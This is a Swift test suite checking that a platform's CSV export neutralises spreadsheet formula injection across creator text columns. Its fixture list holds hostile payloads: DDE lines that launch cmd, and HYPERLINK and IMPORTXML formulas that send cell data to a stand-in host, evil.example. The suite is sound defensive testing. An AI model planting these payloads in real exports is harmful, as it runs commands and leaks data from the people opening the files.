import Domain
import Foundation
import HostTesting
import PlatformAPI
import Postgres
import Testing

/// Texts that a spreadsheet might run, in every column that holds text, through the database, over HTTP, and read back
/// by Python's csv module.
@Suite("CSV injection")
struct InjectionTests {
    private static let signs = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
    private static let before = ["", " ", "\u{A0}", "\"", "'", "\u{FEFF}", "\n", "\u{200B}", " \""]
    /// Signs behind all that can stand before them, and what people have tried in earnest.
    static let hostile =
        before.flatMap { before in signs.map { "\(before)\($0)1+1" } } + [
            "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")", "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1\",=2+2,\"", "=1\n=2", "=1;=2",
            "=\u{301}1", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
        ]
    private static let harmless = ["plain", "a=b", "1+1", "a@example.com", "日本, \"x\"\ny", "'quoted", "#tag", "a =1"]

    /// The columns that hold what somebody else wrote.
    private static let textColumns = [
        "handle", "display_name", "emails", "bio", "links", "profile_url", "country", "language", "content_url",
        "caption", "hashtags",
    ]

    private static func creator(_ text: String, number: Int) -> Creator {
        Creator(
            platform: "toy", externalId: "x\(number)", handle: text, displayName: text, profileUrl: text, bio: text,
            emails: [CreatorEmail(address: text, source: .bio, confidence: 1)],
            links: [CreatorLink(url: text, source: .bio)], followers: 12, country: text, language: text,
            content: [Content(id: "1", url: text, caption: text, hashtags: [text], views: 3, likes: 1)])
    }

    @Test("no text leaves as a formula, whatever stands before its sign, and each reads back as it was")
    func injection() async throws {
        let texts = (Self.hostile + Self.harmless).filter { !$0.contains("\0") }
        #expect(Self.hostile.count >= 60)
        try await TestApp.run { app in
            let jane = try await app.caller()
            let id = try await jane.search("keyword", ["@toys-5"], results: 5)
            _ = try await app.job(id, as: jane)
            let creators = texts.enumerated().map { Self.creator($1, number: $0) }
            try await Self.replace(resultsOf: id, by: creators, in: app)
            let file = try await jane.get("/api/export/csv?jobId=\(id)")
            let rows = try Self.readByPython(file.bytes)
            #expect(rows.count == texts.count)
            for (row, text) in zip(rows, texts) {
                let safe = Self.hostile.contains { $0.utf8.elementsEqual(text.utf8) } ? "'" + text : text
                for column in Self.textColumns {
                    #expect(row[column]?.utf8.elementsEqual(safe.utf8) == true, "\(column) of \(text.debugDescription)")
                }
                #expect(row["keywords_or_targets"] == "'@toys-5")
                #expect(row["followers"] == "12")
                #expect(row["views"] == "3")
            }
            print("CSV injection: \(Self.hostile.count) texts in \(Self.textColumns.count) columns, each neutralised")
        }
    }

    private static func replace(resultsOf job: String, by creators: [Creator], in app: TestApp) async throws {
        let id = UUID(uuidString: job)
        let documents = try creators.map { Array(try GemzJSON.encoder().encode($0)) }
        try await app.database.transaction { db in
            try await db.execute(Statement("tests.empty", "DELETE FROM job_results WHERE job_id = $1"), [id])
            try await db.execute(
                Statement(
                    "tests.place",
                    """
                    INSERT INTO job_results (job_id, position, external_id, creator, found_at)
                    SELECT $1, n, 'x' || n, document, now() FROM unnest($2::jsonb[]) WITH ORDINALITY AS t (document, n)
                    """), [id, PostgresValue.jsonArray(documents)])
            try await db.execute(
                Statement("tests.count", "UPDATE jobs SET processed_results = $2 WHERE id = $1"), [id, creators.count])
        }
    }

    /// The rows by column, as a program reads them that this project did not write.
    private static func readByPython(_ csv: [UInt8]) throws -> [[String: String]] {
        let folder = FileManager.default.temporaryDirectory.appending(path: "gemz-csv-\(UUID().uuidString.prefix(8))")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let (input, output) = (folder.appending(path: "in.csv").path, folder.appending(path: "out.json").path)
        try Data(csv).write(to: URL(filePath: input))
        let program =
            "import csv, json, sys; rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True)); "
            + "json.dump(rows, open(sys.argv[2], 'w'))"
        let pipe = try #require(popen("python3 -c \"\(program)\" '\(input)' '\(output)'", "r"))
        #expect(pclose(pipe) == 0)
        let rows = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(filePath: output)))
        return try #require(rows as? [[String: String]])
    }
}
